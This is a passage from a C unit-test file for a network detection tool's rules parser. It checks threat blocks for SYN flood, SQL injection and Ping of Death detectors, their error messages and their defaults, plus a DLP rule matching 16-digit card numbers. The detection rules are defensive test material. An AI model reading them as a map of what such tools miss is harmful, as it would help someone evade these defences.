		    "'%s' repeated hit a limit", unit[u]);
		ck_assert_msg(sensor_match(plain, sc, UINT64_MAX, t, l, NULL, NULL) >= 0,
		    "'%s' repeated hit a limit without the prefilter", unit[u]);
	}
	clock_gettime(CLOCK_MONOTONIC, &b);
	sensor_scratch_stats(scratch, &st);
	ck_assert_int_eq(st.limits, 0);
	sensor_scratch_stats(sc, &st);
	ck_assert_int_eq(st.limits, 0);
	secs = (double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) / 1e9;
	ck_assert_msg(secs < 10.0, "%.1f s", secs);
	sensor_set_free(plain);
	sensor_scratch_free(sc);
	free(text);
}
END_TEST

/* --- threat blocks ---------------------------------------------------------- */

START_TEST(test_threats_parse)
{
	struct rules_file rf;
	const struct rules_threat *t;

	ck_assert_int_eq(parse(
	    "sensor pii dlp\n"
	    "rule card\n"
	    "packet [0-9]{16}\n"
	    "threat TCP.SYN.Flood\n"
	    "  action alert\n"
	    "  param syns 1000\n"
	    "  param release 900\n"
	    "threat SQL.Injection\n"
	    "disable\n"
	    "level warning\n"
	    "sensor web waf\n"
	    "rule q\n"
	    "url x\n", &rf), 0);
	ck_assert_int_eq(rf.nsensors, 2);
	ck_assert_int_eq(rf.nthreats, 2);
	t = &rf.threats[0];
	ck_assert_int_eq(t->id, THREAT_SYN_FLOOD);
	ck_assert_int_eq(t->line, 4);
	ck_assert_int_eq(t->conf.deny, 0);
	ck_assert_int_eq(t->conf.enabled, 1);
	ck_assert_int_eq(t->conf.level, THREAT_CRITICAL);
	ck_assert_int_eq(t->conf.param[0], 1000);
	ck_assert_int_eq(t->conf.param[1], 5);		/* not said: built in */
	ck_assert_int_eq(t->conf.param[2], 900);
	t = &rf.threats[1];
	ck_assert_int_eq(t->id, THREAT_SQL_INJECTION);
	ck_assert_int_eq(t->conf.enabled, 0);
	ck_assert_int_eq(t->conf.deny, 1);
	ck_assert_int_eq(t->conf.level, THREAT_WARNING);
	rules_free(&rf);
}
END_TEST

START_TEST(test_threats_errors)
{
	ck_error("threat TCP.SYN.Flud\n", "t.rules:1: unknown threat 'TCP.SYN.Flud' (nvd.rules(5) "
	    "lists them)");
	ck_error("threat\n", "t.rules:1: expected 'threat NAME'");
	ck_error("threat Ping.Death\nthreat Ping.Death\n", "t.rules:2: threat 'Ping.Death' "
	    "already set at line 1");
	ck_error("level critical\n", "t.rules:1: 'level' outside a threat (a 'threat NAME' line "
	    "must come first)");
	ck_error("threat Ping.Death\nlevel high\n", "t.rules:2: unknown level 'high' (expected "
	    "info, warning or critical)");
	ck_error("threat Ping.Death\naction drop\n", "t.rules:2: unknown action 'drop' (expected "
	    "alert or deny)");
	ck_error("threat Ping.Death\naction\n", "t.rules:2: expected 'action alert|deny'");
	ck_error("threat Ping.Death\nenable\ndisable\n", "t.rules:3: threat 'Ping.Death': "
	    "enable or disable already set at line 2");
	ck_error("threat Ping.Death\nenable now\n", "t.rules:2: expected 'enable' alone");
	ck_error("threat Ping.Death\nparam sise 1\n", "t.rules:2: threat 'Ping.Death' has no "
	    "parameter 'sise'");
	ck_error("threat SQL.Injection\nparam x 1\n", "t.rules:2: threat 'SQL.Injection' has no "
	    "parameter 'x' (none)");
	ck_error("threat Ping.Death\nparam size 0\n", "t.rules:2: threat 'Ping.Death': size: 0 "
	    "is below 1");
	ck_error("threat Ping.Death\nparam size 1e3\n", "t.rules:2: threat 'Ping.Death': size: "
	    "'1e3' is not a number");
	ck_error("threat Ping.Death\nparam size 70000\n", "t.rules:2: threat 'Ping.Death': size: "
	    "70000 is above 65535");
	ck_error("threat Ping.Death\nparam size\n", "t.rules:2: expected 'param NAME VALUE'");
	ck_error("threat Ping.Death\nparam size 100\nparam size 200\n", "t.rules:3: threat "
	    "'Ping.Death': size already set at line 2");
	ck_error("threat TCP.SYN.Flood\nparam release 900\n", "t.rules:1: threat 'TCP.SYN.Flood': "
	    "release (900) must not be above syns (800)");
	ck_error("threat Ping.Death\nrule r\n", "t.rules:2: rule outside a sensor (a 'sensor NAME "
	    "TYPE' line must come first)");
}
END_TEST

/* rules/threats.rules sets every detector, as the code has it built in. */
START_TEST(test_defaults_threats)
{
	const char *src = getenv("NVD_SRCDIR");
	struct threat_set def;
	struct rules_file rf;
	char path[4096];
	int seen[THREAT_COUNT] = { 0 };

	snprintf(path, sizeof(path), "%s/rules/threats.rules", src ? src : "..");
	memset(&errs, 0, sizeof(errs));
	ck_assert_msg(rules_read(path, &rf, &errs) == 0, "%s", errs.msg[0]);
	ck_assert_int_eq(rf.nsensors, 0);
	ck_assert_int_eq(rf.nthreats, THREAT_COUNT);
	threat_set_default(&def);
	for (int i = 0; i < rf.nthreats; i++) {
		const struct rules_threat *t = &rf.threats[i];

		seen[t->id]++;
		ck_assert_msg(t->conf.enabled == def.t[t->id].enabled &&
		    t->conf.deny == def.t[t->id].deny && t->conf.level == def.t[t->id].level &&
		    memcmp(t->conf.param, def.t[t->id].param, sizeof(t->conf.param)) == 0,
		    "%s differs from its built-in setting", threat_defs[t->id].name);
	}
	for (int i = 0; i < THREAT_COUNT; i++)
		ck_assert_int_eq(seen[i], 1);
	rules_free(&rf);
}
END_TEST

static Suite *
rules_file_suite(void)
{
	Suite *s = suite_create("rules_file");
	TCase *tc;

	tc = tcase_create("format");
	tcase_add_test(tc, test_parse);
	tcase_add_test(tc, test_errors);
	tcase_add_test(tc, test_errors_go_on);
	tcase_add_test(tc, test_limits);
	tcase_add_test(tc, test_read);
	tcase_add_test(tc, test_names);
	tcase_add_test(tc, test_threats_parse);
	tcase_add_test(tc, test_threats_errors);
	tcase_add_test(tc, test_defaults_threats);
	suite_add_tcase(s, tc);

	tc = tcase_create("defaults");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_defaults_names);
	tcase_add_test(tc, test_defaults_dlp);
	tcase_add_test(tc, test_defaults_masked);
	tcase_add_test(tc, test_defaults_waf_url);
	tcase_add_test(tc, test_defaults_waf_body_header_packet);
	tcase_add_test(tc, test_defaults_hostile);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(rules_file_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
